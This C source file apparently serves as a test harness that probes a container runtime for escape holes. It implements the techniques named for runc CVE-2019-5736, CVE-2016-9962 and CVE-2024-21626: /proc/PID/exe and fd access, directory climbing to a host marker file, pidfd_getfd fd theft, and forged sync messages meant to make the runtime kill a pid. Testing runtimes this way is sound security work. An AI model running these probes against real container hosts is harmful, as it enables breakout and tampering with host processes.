/*
 * attacker: what a process inside a container tries against the runtime's own
 * processes (runc CVE-2019-5736, CVE-2016-9962, CVE-2024-21626, forged sync
 * messages). Static, no allocation beyond the stack, bounded loops; every
 * result is one JSON object per line.
 *
 *   attacker probe MARKER [--forge=FORGE_PID] PID...
 *                                    stop each pid, probe it, let it go on
 *   attacker scan MARKER [FORGE_PID] probe every other process in /proc
 *   attacker watch MARKER OUT MS [FORGE_PID] [--hold=MS]
 *                                    for MS ms (or until OUT.stop exists), stop
 *                                    and probe every new process as soon as it
 *                                    shows (pids predicted from ns_last_pid and
 *                                    /proc scans); lines appended to OUT
 *   attacker cwd MARKER              getcwd, and the marker read relative to the cwd
 *   attacker write PATH DATA         write DATA into PATH
 *   attacker selftest FORGE_PID      the forged messages sent on a socketpair we own
 *
 * MARKER is the absolute host path of a file the test placed outside every
 * container: reading it is the escape. FORGE_PID, when given, is sent as
 * MSG_PID(FORGE_PID) then MSG_ERROR on every socket taken with pidfd_getfd.
 *
 * A probe of pid P reports: whether it could be stopped, /proc/P/exe
 * (readlink and an O_PATH open), /proc/P/fd (listing, readlink and open of
 * each), /proc/P/cwd and /proc/P/root (open, and the marker through them),
 * pidfd_open + pidfd_getfd on fds 0..255, and the marker's content if any of it
 * reached the host ("marker"). "reached" is true when anything was reachable.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

#define MAX_FDS  64
#define OUT_SIZE 16384

static const char *marker = "/nonexistent";
static long forge_pid = -1;
/* watch --hold=MS: a runtime process (exe unreadable) stays stopped until
 * OUT.release.PID exists or MS pass, so the host can look at it meanwhile. */
static long hold_ms = 0;
static const char *watch_out = NULL;

/* ---- a bounded JSON writer ---- */
static char out[OUT_SIZE];
static size_t out_len;

static void put(const char *fmt, ...) {
  if (out_len >= OUT_SIZE - 1) return;
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(out + out_len, OUT_SIZE - out_len, fmt, ap);
  va_end(ap);
  if (n > 0) out_len += (size_t)n < OUT_SIZE - out_len ? (size_t)n : OUT_SIZE - out_len - 1;
}

static void put_str(const char *s) {
  if (!s) {
    put("null");
    return;
  }
  put("\"");
  for (; *s && out_len < OUT_SIZE - 8; s++) {
    unsigned char c = (unsigned char)*s;
    if (c == '"' || c == '\\')
      put("\\%c", c);
    else if (c < 0x20 || c >= 0x7f)
      put("\\u%04x", c);
    else
      put("%c", c);
  }
  put("\"");
}

static void flush_to(int fd) {
  put("\n");
  size_t off = 0;
  while (off < out_len) {
    ssize_t n = write(fd, out + off, out_len - off);
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) break;
    off += (size_t)n;
  }
  out_len = 0;
}

static long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

/* ---- the marker, through whatever host directory we got hold of ---- */
static char found[256];

/* Reads the marker relative to dirfd, with enough ".." to reach the top of
 * whatever tree dirfd is in first (from a host directory: the host's root). */
static int read_marker_at(int dirfd, int climb) {
  char path[4096];
  size_t n = 0;
  path[0] = 0;
  if (climb)
    for (int i = 0; i < 40 && n + 3 < sizeof path; i++) n += (size_t)snprintf(path + n, sizeof path - n, "../");
  snprintf(path + n, sizeof path - n, "%s", marker + 1);
  int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t r = read(fd, found, sizeof found - 1);
  close(fd);
  if (r <= 0) return 0;
  found[r] = 0;
  for (ssize_t i = 0; i < r; i++)
    if (found[i] == '\n') found[i] = 0;
  return 1;
}

static const char *ftype(mode_t m) {
  if (S_ISDIR(m)) return "dir";
  if (S_ISSOCK(m)) return "sock";
  if (S_ISREG(m)) return "reg";
  if (S_ISFIFO(m)) return "fifo";
  if (S_ISCHR(m)) return "chr";
  if (S_ISBLK(m)) return "blk";
  if (S_ISLNK(m)) return "lnk";
  return "other";
}

struct wire {
  uint32_t type, step;
  int32_t err, value;
};

/* MSG_PID(forge_pid), then MSG_ERROR: what makes a trusting runtime kill forge_pid. */
static int forge(int sock) {
  struct wire pidmsg = {4, 0, 0, (int32_t)forge_pid};
  struct wire errmsg = {2, 0, 1, 0};
  int ok = send(sock, &pidmsg, sizeof pidmsg, MSG_DONTWAIT | MSG_NOSIGNAL) == (ssize_t)sizeof pidmsg;
  ok &= send(sock, &errmsg, sizeof errmsg, MSG_DONTWAIT | MSG_NOSIGNAL) == (ssize_t)sizeof errmsg;
  return ok;
}

static char state_of(pid_t pid) {
  char p[64], buf[512];
  snprintf(p, sizeof p, "/proc/%d/stat", pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 0;
  buf[n] = 0;
  char *rp = strrchr(buf, ')');
  return rp && rp[1] == ' ' ? rp[2] : 0;
}

static void read_small(const char *path, char *buf, size_t len) {
  buf[0] = 0;
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t n = read(fd, buf, len - 1);
  close(fd);
  if (n < 0) n = 0;
  buf[n] = 0;
  char *nl = strchr(buf, '\n');
  if (nl) *nl = 0;
}

/* Probes pid, stopped (when it lets us), and writes one JSON line to outfd. */
static void probe(pid_t pid, int outfd, const char *how) {
  char p[256], link[1024];
  int reached = 0, stopped = 0, marker_read = 0;
  found[0] = 0;
  if (kill(pid, SIGSTOP) == 0) {
    stopped = 1;
    for (int i = 0; i < 2000 && state_of(pid) != 'T' && state_of(pid) != 't' && state_of(pid) != 0; i++) usleep(50);
  }
  int stop_errno = stopped ? 0 : errno;
  put("{\"pid\":%d,\"how\":\"%s\",\"stopped\":%s,\"stopErrno\":%d,\"state\":\"%c\"", pid, how,
      stopped ? "true" : "false", stop_errno, state_of(pid) ? state_of(pid) : '?');
  snprintf(p, sizeof p, "/proc/%d/comm", pid);
  read_small(p, link, sizeof link);
  put(",\"comm\":");
  put_str(link);

  /* /proc/P/exe: the runtime's binary, once (CVE-2019-5736) */
  snprintf(p, sizeof p, "/proc/%d/exe", pid);
  ssize_t n = readlink(p, link, sizeof link - 1);
  int e = errno;
  put(",\"exe\":{\"link\":");
  if (n >= 0) {
    link[n] = 0;
    put_str(link);
    reached = 1;
  } else {
    put("null");
  }
  put(",\"linkErrno\":%d", n >= 0 ? 0 : e);
  int exe_hidden = n < 0;
  int fd = open(p, O_PATH | O_CLOEXEC);
  e = errno;
  put(",\"open\":%s,\"openErrno\":%d}", fd >= 0 ? "true" : "false", fd >= 0 ? 0 : e);
  if (fd >= 0) {
    reached = 1;
    close(fd);
  }

  /* /proc/P/fd/N: every fd it holds */
  snprintf(p, sizeof p, "/proc/%d/fd", pid);
  DIR *d = opendir(p);
  e = errno;
  put(",\"fdList\":{\"ok\":%s,\"errno\":%d,\"fds\":[", d ? "true" : "false", d ? 0 : e);
  if (d) {
    struct dirent *de;
    int first = 1, count = 0;
    while ((de = readdir(d)) && count < MAX_FDS) {
      if (de->d_name[0] == '.') continue;
      count++;
      reached = 1;
      char fp[600];
      snprintf(fp, sizeof fp, "%s/%s", p, de->d_name);
      n = readlink(fp, link, sizeof link - 1);
      link[n >= 0 ? n : 0] = 0;
      int f = open(fp, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
      int oe = errno;
      struct stat sb;
      int isdir = f >= 0 && fstat(f, &sb) == 0 && S_ISDIR(sb.st_mode);
      if (isdir && !marker_read) marker_read = read_marker_at(f, 1);
      put("%s{\"fd\":%s,\"link\":", first ? "" : ",", de->d_name);
      put_str(n >= 0 ? link : NULL);
      put(",\"open\":%s,\"openErrno\":%d,\"dir\":%s}", f >= 0 ? "true" : "false", f >= 0 ? 0 : oe,
          isdir ? "true" : "false");
      if (f >= 0) close(f);
      first = 0;
    }
    closedir(d);
  }
  put("]}");

  /* /proc/P/cwd and /proc/P/root, and the host's root above them */
  const char *names[2] = {"cwd", "root"};
  for (int i = 0; i < 2; i++) {
    snprintf(p, sizeof p, "/proc/%d/%s", pid, names[i]);
    n = readlink(p, link, sizeof link - 1);
    link[n >= 0 ? n : 0] = 0;
    fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    e = errno;
    put(",\"%s\":{\"link\":", names[i]);
    put_str(n >= 0 ? link : NULL);
    put(",\"open\":%s,\"errno\":%d}", fd >= 0 ? "true" : "false", fd >= 0 ? 0 : e);
    if (fd >= 0) {
      reached = 1;
      if (!marker_read) marker_read = read_marker_at(fd, i == 0);
      close(fd);
    }
  }

  /* pidfd_getfd: every fd, sockets included (the sync socket) */
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  e = errno;
  put(",\"getfd\":{\"pidfd\":%s,\"errno\":%d", pidfd >= 0 ? "true" : "false", pidfd >= 0 ? 0 : e);
  int first_errno = 0, got_any = 0;
  put(",\"got\":[");
  if (pidfd >= 0) {
    for (int t = 0; t < 256; t++) {
      int f = (int)syscall(SYS_pidfd_getfd, pidfd, t, 0);
      if (f < 0) {
        if (errno != EBADF && !first_errno) first_errno = errno;
        continue;
      }
      reached = 1;
      struct stat sb;
      fstat(f, &sb);
      char fl[64];
      snprintf(fl, sizeof fl, "/proc/self/fd/%d", f);
      n = readlink(fl, link, sizeof link - 1);
      link[n >= 0 ? n : 0] = 0;
      int forged = 0;
      if (S_ISDIR(sb.st_mode) && !marker_read) marker_read = read_marker_at(f, 1);
      int stype = 0;
      socklen_t slen = sizeof stype;
      /* hako's sync socket is a SOCK_SEQPACKET pair: leave other sockets (stdio) alone */
      if (S_ISSOCK(sb.st_mode) && forge_pid > 0 && getsockopt(f, SOL_SOCKET, SO_TYPE, &stype, &slen) == 0 &&
          stype == SOCK_SEQPACKET)
        forged = forge(f);
      put("%s{\"fd\":%d,\"type\":\"%s\",\"link\":", got_any ? "," : "", t, ftype(sb.st_mode));
      put_str(link);
      put(",\"forged\":%s}", forged ? "true" : "false");
      got_any = 1;
      close(f);
    }
    close(pidfd);
  }
  put("],\"errnoFirst\":%d}", first_errno);

  put(",\"marker\":");
  put_str(marker_read ? found : NULL);
  if (marker_read) reached = 1;
  put(",\"reached\":%s}", reached ? "true" : "false");
  flush_to(outfd);
  if (stopped && hold_ms > 0 && watch_out && exe_hidden) {
    char rel[4200];
    snprintf(rel, sizeof rel, "%s.release.%d", watch_out, pid);
    put("{\"holding\":%d}", pid);
    flush_to(outfd);
    long end = now_ms() + hold_ms;
    while (now_ms() < end && access(rel, F_OK) != 0) usleep(1000);
  }
  if (stopped) kill(pid, SIGCONT);
}

static int is_pid_name(const char *s) {
  if (!*s) return 0;
  for (; *s; s++)
    if (*s < '0' || *s > '9') return 0;
  return 1;
}

#define SEEN_MAX (1 << 22)
static unsigned char seen[SEEN_MAX / 8];
static int was_seen(long p) {
  return p <= 0 || p >= SEEN_MAX || (seen[p / 8] >> (p % 8)) & 1;
}
static void mark_seen(long p) {
  if (p > 0 && p < SEEN_MAX) seen[p / 8] |= (unsigned char)(1 << (p % 8));
}

/* Calls fn on every pid in /proc not yet seen; marks them seen. */
static int scan_proc(int outfd, int do_probe) {
  DIR *d = opendir("/proc");
  if (!d) return 0;
  struct dirent *de;
  int n = 0;
  while ((de = readdir(d))) {
    if (!is_pid_name(de->d_name)) continue;
    long p = atol(de->d_name);
    if (was_seen(p)) continue;
    mark_seen(p);
    if (do_probe) {
      probe((pid_t)p, outfd, "scan");
      n++;
    }
  }
  closedir(d);
  return n;
}

static long ns_last_pid(void) {
  char buf[32];
  read_small("/proc/sys/kernel/ns_last_pid", buf, sizeof buf);
  return buf[0] ? atol(buf) : -1;
}

static void mark_self_and_ancestors(void) {
  pid_t p = getpid();
  for (int i = 0; i < 64 && p > 0; i++) {
    mark_seen(p);
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", p);
    read_small(path, buf, sizeof buf);
    char *rp = strrchr(buf, ')');
    if (!rp) break;
    p = (pid_t)strtol(rp + 4, NULL, 10);
  }
}

static int cmd_watch(const char *outpath, long ms) {
  int outfd = open(outpath, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  if (outfd < 0) return 2;
  char stoppath[4096];
  snprintf(stoppath, sizeof stoppath, "%s.stop", outpath);
  mark_self_and_ancestors();
  scan_proc(outfd, 0); /* what is there already is not new */
  put("{\"watching\":true,\"self\":%d}", getpid());
  flush_to(outfd);
  long deadline = now_ms() + ms;
  long probed = 0, predicted = 0, iter = 0;
  while (now_ms() < deadline) {
    /* The next pids of this namespace, stopped the moment they exist. */
    long last = ns_last_pid();
    if (last > 0)
      for (long p = last - 1; p <= last + 3; p++) {
        if (was_seen(p)) continue;
        if (kill((pid_t)p, 0) != 0 && errno == ESRCH) continue;
        mark_seen(p);
        probe((pid_t)p, outfd, "predicted");
        predicted++;
        probed++;
      }
    if (++iter % 64 == 0) {
      probed += scan_proc(outfd, 1);
      while (waitpid(-1, NULL, WNOHANG) > 0) {}
      if (access(stoppath, F_OK) == 0) break;
    }
  }
  put("{\"done\":true,\"probed\":%ld,\"predicted\":%ld}", probed, predicted);
  flush_to(outfd);
  close(outfd);
  return 0;
}

static int cmd_cwd(void) {
  char cwd[4096];
  char *c = getcwd(cwd, sizeof cwd);
  int e = errno;
  found[0] = 0;
  int got = read_marker_at(AT_FDCWD, 1);
  struct stat dot, root;
  int same_root =
      stat(".", &dot) == 0 && stat("/", &root) == 0 && dot.st_dev == root.st_dev && dot.st_ino == root.st_ino;
  put("{\"cwd\":");
  put_str(c ? cwd : NULL);
  put(",\"cwdErrno\":%d,\"cwdIsRoot\":%s,\"marker\":", c ? 0 : e, same_root ? "true" : "false");
  put_str(got ? found : NULL);
  put("}");
  flush_to(1);
  return 0;
}

static int cmd_write(const char *path, const char *data) {
  int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
  int e = errno;
  ssize_t n = -1;
  int we = 0;
  if (fd >= 0) {
    n = write(fd, data, strlen(data));
    we = n < 0 ? errno : 0;
    close(fd);
  }
  put("{\"path\":");
  put_str(path);
  put(",\"open\":%s,\"openErrno\":%d,\"written\":%zd,\"writeErrno\":%d}", fd >= 0 ? "true" : "false", fd >= 0 ? 0 : e,
      n, we);
  flush_to(1);
  return 0;
}

static int cmd_selftest(void) {
  int sv[2];
  struct wire got[2];
  int ok = socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, sv) == 0 && forge(sv[0]);
  int recvd = 0;
  if (ok)
    for (int i = 0; i < 2; i++)
      if (recv(sv[1], &got[i], sizeof got[i], MSG_DONTWAIT) == (ssize_t)sizeof got[i]) recvd++;
  put("{\"selftest\":true,\"sent\":%s,\"received\":%d,\"firstType\":%u,\"firstValue\":%d,\"secondType\":%u}",
      ok ? "true" : "false", recvd, recvd > 0 ? got[0].type : 0, recvd > 0 ? got[0].value : 0,
      recvd > 1 ? got[1].type : 0);
  flush_to(1);
  return 0;
}

int main(int argc, char **argv) {
  alarm(120); /* whatever happens, never outlive the test */
  if (argc < 2) return 2;
  const char *cmd = argv[1];
  if (!strcmp(cmd, "write") && argc == 4) return cmd_write(argv[2], argv[3]);
  if (!strcmp(cmd, "selftest") && argc == 3) {
    forge_pid = atol(argv[2]);
    return cmd_selftest();
  }
  if (argc < 3) return 2;
  marker = argv[2];
  if (marker[0] != '/') return 2;
  if (!strcmp(cmd, "cwd")) return cmd_cwd();
  if (!strcmp(cmd, "probe")) {
    for (int i = 3; i < argc; i++)
      if (!strncmp(argv[i], "--forge=", 8)) forge_pid = atol(argv[i] + 8);
    for (int i = 3; i < argc; i++)
      if (strncmp(argv[i], "--forge=", 8)) probe((pid_t)atol(argv[i]), 1, "probe");
    return 0;
  }
  if (!strcmp(cmd, "scan")) {
    mark_self_and_ancestors();
    if (argc > 3) forge_pid = atol(argv[3]);
    scan_proc(1, 1);
    return 0;
  }
  if (!strcmp(cmd, "watch") && argc >= 5) {
    for (int i = 5; i < argc; i++) {
      if (!strncmp(argv[i], "--hold=", 7))
        hold_ms = atol(argv[i] + 7);
      else
        forge_pid = atol(argv[i]);
    }
    if (hold_ms > 5000) hold_ms = 5000;
    watch_out = argv[3];
    long ms = atol(argv[4]);
    if (ms <= 0 || ms > 110000) ms = 110000;
    return cmd_watch(argv[3], ms);
  }
  return 2;
}
